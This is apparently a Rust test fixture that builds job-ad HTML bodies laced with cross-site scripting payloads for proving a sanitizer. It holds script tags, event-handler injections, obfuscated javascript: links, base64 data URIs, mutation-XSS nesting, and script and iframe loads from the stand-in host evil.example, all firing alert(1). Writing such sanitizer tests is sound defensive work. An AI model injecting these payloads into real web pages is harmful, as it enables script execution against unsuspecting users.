//! Bodies carrying script-injection attempts, so a sanitizer can be proven against them.
//!
//! Each looks like a normal ad with hostile markup woven in, the way a compromised or careless
//! editor would leave it. Every payload calls `alert(1)` so a browser test can watch for dialogs.

/// The hostile body number `variant` (taken modulo the number of variants).
pub(super) fn hostile_body(variant: usize, normal_body: &str) -> String {
    let payload = match variant % 4 {
        0 => concat!(
            "<script>alert(1)</script>",
            "<p>Our stack <img src=x onerror=\"alert(1)\"> is modern.</p>",
            "<p onclick=\"alert(1)\" onmouseover=\"alert(1)\">Hover me for perks.</p>",
            "<SCRIPT SRC=\"https://evil.example/x.js\"></SCRIPT>",
        ),
        1 => concat!(
            "<p><a href=\"javascript:alert(1)\">See the team</a> or ",
            "<a href=\" JaVaScRiPt:alert(1)\">the office</a> or ",
            "<a href=\"&#106;avascript:alert(1)\">the benefits</a> or ",
            "<a href=\"java&#x09;script:alert(1)\">the blog</a>.</p>",
            "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
            "<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Brochure</a></p>",
        ),
        2 => concat!(
            "<svg onload=alert(1)><circle r=\"10\"></circle></svg>",
            "<div style=\"background:url(javascript:alert(1)); width: expression(alert(1))\">Perks</div>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"logo\">",
            "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
            "<form action=\"javascript:alert(1)\"><button>Apply faster</button></form>",
        ),
        _ => concat!(
            "<style>@import 'javascript:alert(1)'; body{background:red}</style>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "<input autofocus onfocus=\"alert(1)\" value=\"Your name\">",
            "<details open ontoggle=\"alert(1)\"><summary>More</summary>Details</details>",
            "<a href=\"https://www.example.com/\" target=\"_blank\" onclick=\"alert(1)\">Careers</a>",
        ),
    };
    format!("{payload}{normal_body}")
}
